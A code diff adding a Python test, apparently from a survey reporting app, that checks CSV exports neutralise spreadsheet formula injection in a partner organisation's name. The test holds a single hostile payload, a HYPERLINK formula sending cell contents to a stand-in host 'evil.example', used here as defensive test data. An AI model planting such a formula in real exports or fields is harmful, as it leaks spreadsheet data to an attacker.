@@ -102,6 +102,18 @@ def test_the_csv_holds_the_pages_figures(world: World) -> None:
     assert trust["Riverside Hospitals"]["median"] == ""  # the core gives partners n and mean
 
 
+def test_a_partner_named_like_a_formula_is_text_in_the_csv(world: World) -> None:
+    attack = '=HYPERLINK("http://evil.example/?leak="&A2,"Org B")'
+    world.acute.name = attack
+    world.acute.save()
+    shown = close(_answered(world))
+    export = world.client("owner").get(_urls(world, shown)[1]).content.decode()
+    rows = list(csv.reader(io.StringIO(export)))
+    named = [row for row in rows if "'" + attack in row]
+    assert named  # the partner's rows are there, as text
+    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@"))]
+
+
 def test_names_and_individual_answers_are_never_shown(world: World) -> None:
     shown = _answered(world)
     yolanda = shown.responses.get(member__user__username="yolanda")
